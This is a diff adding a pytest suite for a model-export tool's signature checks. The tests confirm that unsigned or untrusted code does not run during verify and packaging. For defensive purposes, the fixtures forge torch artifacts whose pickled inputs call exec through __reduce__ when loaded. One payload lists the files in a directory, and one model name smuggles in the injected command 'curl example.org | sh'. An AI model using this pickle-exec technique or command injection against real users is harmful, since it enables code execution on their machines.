@@ -1,0 +1,223 @@
+"""Where a signature is demanded, nothing runs that it does not cover, and none is made before the package works."""
+
+from __future__ import annotations
+
+import io
+import json
+import os
+import zipfile
+from pathlib import Path
+
+import pytest
+import torch
+from verify_artifacts import Affine, right, write_artifact
+from verify_models import STATE
+
+from exportkit.cli import main
+from exportkit.errors import SignatureMissingError, UsageError
+from exportkit.package.archive import PackageReader, write_package
+from exportkit.package.signing import sign_package
+from exportkit.verify.options import VerifyOptions
+from exportkit.verify.outcomes import EagerUnavailable, LoadFailed, Match
+from exportkit.verify.packaging import build_package
+from exportkit.verify.replay import ReplayProcess
+from exportkit.verify.verify import verify
+from tests.package.signers import Signer, signer
+
+X = torch.arange(6.0).reshape(2, 3)
+CASES = VerifyOptions(against="cases")
+SOURCE = "net.py:Net"
+NET = "from verify_models import Refusing as Net\nopen({mark!r}, 'w').close()\n"
+
+
+@pytest.fixture(autouse=True)
+def _own_machine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """No policy and no cache but the test's; what is imported from the current folder is imported from the test's."""
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
+    monkeypatch.setenv("EXPORTKIT_CACHE", str(tmp_path / "cache"))
+    monkeypatch.setenv("PYTHONPATH", str(Path(__file__).parent), prepend=os.pathsep)
+    monkeypatch.delenv("EXPORTKIT_POLICY", raising=False)
+    monkeypatch.chdir(tmp_path)
+
+
+@pytest.fixture
+def mark(tmp_path: Path) -> Path:
+    """The file that is there once hostile code has run."""
+    return tmp_path / "mark"
+
+
+@pytest.fixture
+def release(tmp_path: Path) -> Signer:
+    (tmp_path / "keys").mkdir()
+    return signer(tmp_path / "keys")
+
+
+@pytest.fixture
+def genuine(tmp_path: Path, mark: Path, release: Signer) -> Path:
+    """A package as the release key signed it; the source beside it, of the name in its manifest, is somebody else's."""
+    (tmp_path / "net.py").write_text(NET.format(mark=str(mark)))
+    cases = [(X, right(X))]
+    path = write_artifact(tmp_path / "net.pt2", Affine(), cases, source=SOURCE, state_sha256=STATE)
+    sign_package(path, release.key)
+    return path
+
+
+def require(release: Signer) -> None:
+    """A policy that asks for the release key's signature."""
+    file = Path(os.environ["XDG_CONFIG_HOME"], "exportkit", "policy.json")
+    file.parent.mkdir(parents=True)
+    keys = [str(release.public)]
+    file.write_text(json.dumps({"version": 1, "require_signature": True, "public_keys": keys}))
+
+
+def hostile(path: Path, code: str) -> Path:
+    """An artifact with a program that runs code when it is read: torch unpickles its example inputs."""
+    write_artifact(path, Affine(), [(X, right(X))])
+    with PackageReader(path) as reader:
+        manifest, records = reader.manifest, {name: reader.read(name) for name in reader.names}
+    assert manifest.program is not None
+    pickled, forged = io.BytesIO(), io.BytesIO()
+    torch.save(((_Code(code),), {}), pickled)
+    with zipfile.ZipFile(io.BytesIO(records[manifest.program.record])) as saved, zipfile.ZipFile(forged, "w") as copy:
+        for name in saved.namelist():
+            copy.writestr(name, pickled.getvalue() if "sample_inputs" in name else saved.read(name))
+    write_package(path, manifest, {**records, manifest.program.record: forged.getvalue()})
+    return path
+
+
+class _Code:
+    def __init__(self, code: str) -> None:
+        self.code = code
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        return exec, (self.code,)
+
+
+# --- verify -----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("by", ["the caller", "a policy"])
+def test_a_source_that_lies_beside_a_signed_package_is_not_run(genuine: Path, mark: Path, release: Signer, by: str):
+    if by == "a policy":
+        require(release)
+    keys = [release.public] if by == "the caller" else []
+    report = verify(genuine, VerifyOptions(public_keys=keys))
+    assert not mark.exists()
+    assert report.exit_code == 0
+    case, eager = (check.verdict for check in report.checks if check.against != "package")
+    assert isinstance(case, Match)
+    assert isinstance(eager, EagerUnavailable)
+    assert f"compare with --model {SOURCE}" in eager.message
+    assert by.removeprefix("a ") in eager.message
+
+
+def test_it_is_run_where_the_caller_names_it_or_nobody_asks_for_a_signature(genuine: Path, mark: Path, release: Signer):
+    verify(genuine, VerifyOptions(public_keys=[release.public], model=SOURCE, shapes=1))
+    assert mark.exists()
+    mark.unlink()
+    verify(genuine, VerifyOptions(shapes=1))
+    assert mark.exists()
+
+
+def test_to_ask_for_eager_alone_is_refused_and_says_how_to_name_it(genuine: Path, mark: Path, release: Signer):
+    with pytest.raises(UsageError, match=f"no comparison with eager: .*--model {SOURCE}"):
+        verify(genuine, VerifyOptions(against="eager", public_keys=[release.public]))
+    assert not mark.exists()
+
+
+def test_the_command_says_that_there_was_no_comparison(genuine: Path, mark: Path, release: Signer, capsys):
+    assert main(["verify", str(genuine), "--public-key", str(release.public)]) == 0
+    out = capsys.readouterr().out
+    assert "no comparison with eager: " in out
+    assert f"compare with --model {SOURCE}" in out
+    assert not mark.exists()
+
+
+def test_a_name_that_is_no_plain_one_is_not_repeated(tmp_path: Path, release: Signer):
+    source = "net.py:Net; curl example.org | sh\nok"
+    path = write_artifact(tmp_path / "odd.pt2", Affine(), [(X, right(X))], source=source)
+    sign_package(path, release.key)
+    report = verify(path, VerifyOptions(public_keys=[release.public]))
+    assert report.checks[-1].verdict.message.endswith("compare with --model MODEL")
+
+
+# --- package ----------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("by", ["the caller", "a policy"])
+def test_an_unsigned_artifact_is_refused_before_anything_of_it_runs(
+    tmp_path: Path, mark: Path, release: Signer, by: str
+):
+    """Whoever packages and signs would vouch for what nobody did."""
+    path = hostile(tmp_path / "artifact.pt2", f"open({str(mark)!r}, 'w').close()")
+    if by == "a policy":
+        require(release)
+    keys = [release.public] if by == "the caller" else []
+    with pytest.raises(SignatureMissingError):
+        build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES, public_keys=keys)
+    assert not mark.exists()
+    assert not list(tmp_path.glob("*out.pt2*"))
+
+
+def test_there_is_no_signature_while_the_package_runs(tmp_path: Path, release: Signer):
+    """It could be carried off: what is examined runs as the same user."""
+    seen = tmp_path / "seen"
+    code = (
+        f"import os; open({str(seen)!r}, 'w').write(repr([f for _, _, fs in os.walk({str(tmp_path)!r}) for f in fs]))"
+    )
+    path = hostile(tmp_path / "artifact.pt2", code)
+    build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES)
+    assert "'out.pt2'" in seen.read_text()
+    assert ".sig" not in seen.read_text()
+    assert (tmp_path / "out.pt2.sig").exists()
+
+
+def test_a_package_that_fails_leaves_neither_package_nor_signature(tmp_path: Path, release: Signer):
+    wrong = {**right(X), "y": X.clone()}
+    path = write_artifact(tmp_path / "artifact.pt2", Affine(), [(X, wrong)])
+    _, report = build_package([path], tmp_path / "out.pt2", sign_key=release.key, verify_options=CASES)
+    assert report is not None
+    assert report.exit_code == 1
+    assert not list(tmp_path.glob("*out.pt2*"))
+
+
+def test_signed_artifacts_become_a_signed_package_under_a_policy(genuine: Path, tmp_path: Path, release: Signer):
+    require(release)
+    output = tmp_path / "out.pt2"
+    _, report = build_package([genuine], output, sign_key=release.key, verify_options=CASES)
+    assert report is not None
+    assert [type(check.verdict) for check in report.checks] == [Match]
+    assert verify(output, CASES).exit_code == 0
+
+
+def test_what_is_packaged_under_a_policy_is_not_compared_with_a_source_that_nobody_named(
+    genuine: Path, tmp_path: Path, mark: Path, release: Signer
+):
+    _, report = build_package(
+        [genuine], tmp_path / "out.pt2", verify_options=VerifyOptions(shapes=1), public_keys=[release.public]
+    )
+    assert report is not None
+    assert isinstance(report.checks[-1].verdict, EagerUnavailable)
+    assert not mark.exists()
+
+
+def test_the_process_that_runs_it_takes_no_other_package_without_a_signature(
+    tmp_path: Path, mark: Path, release: Signer
+):
+    """One that took its place under its name, say."""
+    path = hostile(tmp_path / "artifact.pt2", f"open({str(mark)!r}, 'w').close()")
+    with PackageReader(path) as reader:
+        manifest, digest = reader.manifest, reader.manifest_sha256
+    require(release)
+    for permitted, error in (("0" * 64, "DigestMismatchError"), (None, "SignatureMissingError"), (digest, None)):
+        process = ReplayProcess(path, manifest, CASES, target=None, device="cpu", folder=tmp_path, unsigned=permitted)
+        with process as replay:
+            answer = replay.load()
+        assert mark.exists() == (error is None)
+        assert error is None or (isinstance(answer, LoadFailed) and answer.error == error)
+
+
+def test_one_signature_file_is_not_for_several_artifacts(genuine: Path, tmp_path: Path, release: Signer):
+    signature = tmp_path / "net.pt2.sig"
+    with pytest.raises(UsageError, match="several artifacts"):
+        build_package([genuine, genuine], tmp_path / "out.pt2", public_keys=[release.public], signature=signature)
